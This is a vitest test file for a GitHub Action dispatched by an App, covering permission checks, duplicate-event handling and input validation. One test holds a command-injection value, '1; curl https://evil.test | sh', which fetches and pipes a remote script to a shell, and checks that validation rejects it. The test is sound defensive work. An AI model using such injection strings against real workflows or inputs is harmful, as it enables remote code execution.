import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import {
  type ActionScenario,
  actionScenario,
  buildAction,
  type ScenarioResult,
} from "../../support/action-scenario.ts";
import { PATIENCE_MS } from "../../support/built-cli.ts";

vi.setConfig({ testTimeout: PATIENCE_MS, hookTimeout: PATIENCE_MS });

describe("a run the App dispatches", () => {
  let scenario: ActionScenario;
  let number: number;

  beforeAll(async () => {
    await buildAction();
    scenario = await actionScenario();
    number = scenario.hub.as("stranger").openIssue({ title: "Add two integers" }).number;
  });
  afterAll(() => scenario?.stop());

  const ours = () => scenario.hub.comments(number).filter(({ author }) => author.login === "github-actions[bot]");
  const dispatch = (inputs: Record<string, string>): Promise<ScenarioResult> => {
    const event = scenario.hub.as("verialgo[bot]").dispatchWorkflow({ workflow: ".github/workflows/verialgo.yml" });
    // Refused before the first model call: enough to see that a run began, and cheap.
    const given = {
      issue: String(number),
      command: "/verialgo implement",
      actor: "alice",
      key: "comment-9",
      ...inputs,
    };
    return scenario.run(event, { with: { python: "/nonexistent", ...given } });
  };

  it("begins for a person who may, in a comment with the key of the event", async () => {
    const result = await dispatch({});
    expect(result.outputs.verdict).toBe("not-run");
    expect(ours()).toHaveLength(1);
    expect(ours()[0]?.body).toMatch(/^<!-- verialgo:[^\n]* key=comment-9 kind=run /);
    expect(scenario.hub.reactions({ issue: number })).toEqual(["eyes", "confused"]);
  });

  it("with a key that was taken up already ends at once", async () => {
    const result = await dispatch({});
    expect(result.summary).toMatch(/already taken up by another run/);
    expect(result.conclusion).toBe("success");
    expect(ours()).toHaveLength(1);
  });

  it("for somebody who may not starts nothing, whoever sent it", async () => {
    const result = await dispatch({ actor: "rita", key: "comment-10" });
    expect(result.summary).toMatch(/rita has the role read here/);
    expect(result.outputs).toEqual({});
    expect(ours()).toHaveLength(1);
  });

  it("with hostile inputs is red before GitHub is asked anything (A15)", async () => {
    const result = await dispatch({ issue: "1; curl https://evil.test | sh", "head-sha": "main" });
    expect(result.conclusion).toBe("failure");
    expect(result.requests).toEqual([]);
    const said = result.annotations.map(({ message }) => message);
    expect(said).toEqual([
      expect.stringMatching(/^Input `issue` must be a whole number from 1 to /),
      expect.stringMatching(/^Input `head-sha` must be /),
    ]);
  });
});
